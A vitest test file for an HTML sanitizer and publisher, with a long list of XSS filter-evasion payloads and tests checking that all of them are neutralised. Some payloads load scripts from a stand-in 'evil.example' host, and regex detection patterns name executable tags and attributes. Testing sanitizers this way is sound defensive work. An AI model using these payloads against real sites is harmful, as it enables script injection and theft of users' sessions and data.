import { imageDefaults } from '@vitrine/contract/media/images'
import { type DefaultTreeAdapterMap, parse, parseFragment } from 'parse5'
import { expect, test } from 'vitest'
import { publishHtml } from './publish-html.ts'
import { sanitizeHtml } from './sanitize.ts'

const context = {
  locale: 'fr',
  localizeHref: (path: string) => path,
  imageSize: () => undefined,
  images: imageDefaults,
}

// The well-known lists: OWASP's XSS filter evasion cheat sheet, PortSwigger's, html5sec.org, and the
// mutation tricks published against DOMPurify.
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/random>alert(1)</script>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<script>alert(1)',
  '<script src=//evil.example/.j>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src="x"/onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC=`javascript:alert(1)`>',
  '<img src=javascript:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="jav\nascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1)">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
  '<img srcset="javascript:alert(1) 1x, data:image/svg+xml,x 2x">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<img name=body><img name=getElementById><img name=cookie>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\u0001\u0002 javascript:alert(1)">x</a>',
  '<a href="java\tscr\r\nipt:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="blob:https://example.org/1">x</a>',
  '<a href="filesystem:https://example.org/x">x</a>',
  '<a href="/" ping="https://evil.example/">x</a>',
  '<a href="/" target="_top" rel="opener">x</a>',
  '<a onmouseover="alert(1)" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<a style="position:fixed;inset:0" href="https://evil.example">x</a>',
  '<p onclick="alert(1)" ONLOAD=alert(1) onpointerrawupdate=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img src=x onerror=alert(1)></style>',
  '<style><style/><img src=x onerror=alert(1)>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)"><p>x</p>',
  '<html onclick=alert(1)><head><title>x</title></head></html>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"><p>x</p></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"><param name=x></applet>',
  '<form action="javascript:alert(1)"><input name=attributes><button formaction="javascript:alert(1)">x</button></form>',
  '<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<input type=image src=x onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<select onfocus=alert(1)><option><img src=x onerror=alert(1)></option></select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<keygen onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster=javascript:alert(1) src=x onloadstart=alert(1)></video>',
  '<audio src="data:audio/mp3,x" onerror=alert(1)></audio>',
  '<video src="http://evil.example/x.mp4" autoplay></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<svg><style><img title="</style><img src=x onerror=alert(1)>"></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<template><noscript><img src=x onerror=alert(1)></noscript></template>',
  '<div><template shadowrootmode=open><slot></slot><script>alert(1)</script></template></div>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '<!doctype html [<!entity x "<script>alert(1)</script>">]>',
  '<p title="--><script>alert(1)</script>">x</p>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<p/onclick=alert(1)/title="x">x</p>',
  '<x-element is="x" onclick=alert(1)>x</x-element>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<table><tr><td><svg><desc><td><img src=x onerror=alert(1)>',
  '<b <script>alert(1)</script>0',
  '<p id="x" id="onclick" class="v-table v-lightbox">x</p>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<del cite="javascript:alert(1)">x</del>',
  '<map><area href="javascript:alert(1)"></map>',
  '<dialog open><form method=dialog>x</form></dialog>',
  '<p popover id=x>x</p><button popovertarget=x>x</button>',
  '<portal src="https://evil.example"></portal>',
  '<fencedframe src="https://evil.example"></fencedframe>',
  '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  '<div accesskey=x onclick=alert(1) hidden=until-found onbeforematch=alert(1)>x</div>',
  '<ol type="raw" value="<script>alert(1)</script>"><li>x</ol>',
  '<p __proto__="x" constructor="x" onclick=alert(1)>x</p>',
]

const executable =
  /^(?:applet|area|base|body|button|dialog|embed|fencedframe|form|frame|frameset|head|html|iframe|input|isindex|keygen|link|listing|map|marquee|math|meta|noembed|noscript|object|option|param|plaintext|portal|script|select|style|svg|template|textarea|title|x-element|xmp)$/
const dangerousAttribute =
  /^(?:on.*|style|name|is|slot|form|action|srcdoc|formaction|ping|background|href:.*|xlink.*|popover.*|contenteditable|autofocus|accesskey|autoplay|hidden|constructor)$/
const addressAttribute = /^(?:href|src|srcset|poster|cite)$/
const unsafeAddress = /(?:^|,)[\s\p{Cc}]*(?!https?:|mailto:|tel:)[\p{Cc}\s\w.+-]*:/u

type Node = DefaultTreeAdapterMap['node']

function dangersIn(node: Node): string[] {
  if (node.nodeName === '#comment') return ['comment']
  const found: string[] = []
  if ('tagName' in node) {
    if (executable.test(node.tagName)) found.push(node.tagName)
    for (const { name, prefix, value } of node.attrs) {
      if (prefix || dangerousAttribute.test(name)) found.push(name)
      if (addressAttribute.test(name) && unsafeAddress.test(value)) found.push(`${name}=${value}`)
      if (name === 'class' && /(?:^|\s)v-(?!table$)/.test(value)) found.push(`class=${value}`)
    }
  }
  return 'childNodes' in node ? [...found, ...node.childNodes.flatMap(dangersIn)] : found
}

test.each(hostile)('removes everything executable from %j', (source) => {
  const { content, html, removed } = publishHtml(source, context)
  for (const scriptingEnabled of [true, false]) {
    expect(dangersIn(parseFragment(content, { scriptingEnabled }))).toEqual([])
    expect(dangersIn(parseFragment(html, { scriptingEnabled }))).toEqual([])
  }
  const markup = content.replaceAll(/"[^"]*"/g, '')
  expect(markup).not.toMatch(/<(?:script|svg|math|iframe|body|style|!--)/i)
  expect(publishHtml(content, context)).toMatchObject({ content, html, removed: [] })
  expect(removed.length).toBeLessThanOrEqual(20)
})

test.each(hostile)('does not close the markup around %j', (source) => {
  const { html } = publishHtml(source, context)
  const page = parse(`<!doctype html><body><div>${html}</div><main></main></body>`)
  const body = page.childNodes
    .flatMap((node) => ('childNodes' in node ? node.childNodes : []))
    .at(1)
  expect(body && 'childNodes' in body && body.childNodes.map(({ nodeName }) => nodeName)).toEqual([
    'div',
    'main',
  ])
})

test.each([
  ['<p>a</p><script>alert(1)</script>', '<p>a</p>', ['script']],
  ['<a onclick="x()" href="/">a</a>', '<a href="/">a</a>', ['a[onclick]']],
  ['<a href="java\tscript:x()">a</a>', '<a>a</a>', ['a[href=javascript:]']],
  ['<div style="color:red">a</div>', '<div>a</div>', ['div[style]']],
  ['<iframe src="https://example.org">a</iframe>b', 'b', ['iframe']],
  ['<form><center>a <font size=2>b</font></center></form>', 'a b', ['form', 'center', 'font']],
  ['<p>a<!-- b --></p>', '<p>a</p>', ['<!-- … -->']],
  ['a\0b', 'ab', ['U+0000']],
  ['<body onload="x()"><p>a</p>', '<p>a</p>', ['body']],
  ['<p>a</p><img src=x onerror=x()', '<p>a</p>', ['<…']],
  ['<td onclick=x()>a', 'a', ['td']],
  ['<p class="a v-table b">a</p>', '<p class="a b">a</p>', ['p[class=v-table]']],
  ['<p class="v-parallax">a</p>', '<p>a</p>', ['p[class=v-parallax]']],
  ['<p data-x-y="1">a</p>', '<p>a</p>', ['p[data-x-y]']],
  ['<a rel="opener nofollow">a</a>', '<a rel="nofollow">a</a>', ['a[rel=opener]']],
  ['<img src="/a.png" width="100%">', '<img src="/a.png">', ['img[width]']],
  ['<img src="/a.png" width="10001">', '<img src="/a.png">', ['img[width]']],
  ['<img src="/a.png" srcset="data:x 1x">', '<img src="/a.png">', ['img[srcset=data:]']],
  ['<video src="http://a.b/c"></video>', '<video controls></video>', ['video[src=http:]']],
  ['<track src="javascript:x">', '<track>', ['track[src=javascript:]']],
  ['<track src="http://a.b/c.vtt">', '<track>', ['track[src=http:]']],
  ['<track kind="script" onload="x()">', '<track>', ['track[kind]', 'track[onload]']],
  ['<p role="alert">a</p>', '<p>a</p>', ['p[role]']],
  ['<h1>a</h1>', '<h2>a</h2>', ['h1 → h2']],
])('%j becomes %j, with a list of the removed parts', (source, content, removed) => {
  expect(sanitizeHtml(source)).toMatchObject({ content, removed })
})

test.each([
  '<p>Un <strong>texte',
  '<p class="">a</p>',
  '<P Class=Intro>Majuscules</P>',
  '<p>a<p>b</p></p>',
  '<ul><li>a<li>b</ul>',
  'a &amp; b &eacute; &nbsp; &lt;script&gt;',
  '<p>CR\r\nLF</p>',
  '<pre>\n\nfirst line</pre>',
  '<a href="https://example.org/?a=1&b=2#c" target=_blank rel="noopener nofollow">a</a>',
  '<a href="/en/about" hreflang="en-GB" lang="en">About</a>',
  '<p class="v-align-top v-card v-tables">a</p>',
  '<a href="//example.org">a</a> <a href="mailto:a@b.c">a</a> <a href="tel:+33100000000">a</a>',
  '<a href="?q=javascript:x">a</a> <a href="a/b:c">a</a> <a href="#x:y">a</a>',
  '<a data-status="3" data-model="App\\Page" data-go href="/">a</a>',
  '<img src="/media/a b.png" srcset="/media/a.png 1x, https://a.b:8443/c.png 2x" alt="">',
  '<table><tr><th scope=row colspan=2 rowspan="3">a</table>',
  '<ol start=-3 reversed type=a><li value=4>a</ol>',
  '<video src="/media/a.mp4" controls muted loop></video>',
  '<video src="/media/a.mp4" controls><track kind=captions src="/media/a.vtt" srclang=fr label="Français" default></video>',
  '<audio src="/media/a.mp3" controls><track kind="chapters" src="https://a.b/c.vtt"></audio>',
  '<div id="partie-1" class="card w_2" lang="ar" dir=rtl title="t" role=note aria-label="n">a</div>',
  '<ruby>漢<rp>(</rp><rt>kan</rt></ruby><bdo dir=rtl>a</bdo><time datetime="2026-01-05">a</time>',
  '<details open><summary>a</summary>b</details>',
])('%j stays unchanged', (source) => {
  expect(sanitizeHtml(source)).toMatchObject({ content: source, removed: [] })
})

test.each(['v-app', 'v-data', 'v-main', 'v-', 'constructor', 'valueOf', '__proto__'])(
  'the id %s gets a prefix, and links within the page follow',
  (id) => {
    const { content } = sanitizeHtml(`<p id="${id}">a</p><a href="#${id}">b</a>`)
    expect(content).toBe(`<p id="c-${id}">a</p><a href="#c-${id}">b</a>`)
  },
)

test('a link to an id of the product stays unchanged if the content has no such id', () => {
  expect(sanitizeHtml('<a href="#main">a</a>').content).toBe('<a href="#main">a</a>')
})

test('the name of an old anchor becomes its id', () => {
  expect(sanitizeHtml('<a name="top 1">a</a>').content).toBe('<a id="top-1">a</a>')
})

test('addresses are normalized as in a browser', () => {
  const { content, removed } = sanitizeHtml('<a href=" HTTPS://exa\nmple.org/A ">a</a>')
  expect(content).toBe('<a href="https://example.org/A">a</a>')
  expect(removed).toEqual([])
})

test('the list has the first twenty removals and a count of the rest, and shortens long names', () => {
  const attributes = Array.from({ length: 50 }, (_, n) => `on${n}=x`).join(' ')
  const { removed } = sanitizeHtml(`<p ${attributes}>a</p>`)
  expect(removed).toHaveLength(21)
  expect(removed.at(-1)).toBe('… +30')
  expect(sanitizeHtml(`<${'a'.repeat(5_000)}>`).removed.join().length).toBeLessThan(50)
})

test('data attributes named by the caller stay', () => {
  const source = '<p data-page-id="1" data-other="2">a</p>'
  const { content, removed } = sanitizeHtml(source, ['data-page-id'])
  expect(content).toBe('<p data-page-id="1">a</p>')
  expect(removed).toEqual(['p[data-other]'])
})

test('a lone surrogate is replaced, because databases refuse it', () => {
  expect(sanitizeHtml('a\ud800b').content).toBe('a\ufffdb')
})

test('sanitizing a paragraph in a removed button again changes nothing', () => {
  const { content } = sanitizeHtml('<p>a<button><p>b</p></button></p>')
  expect(sanitizeHtml(content)).toMatchObject({ content, removed: [] })
})
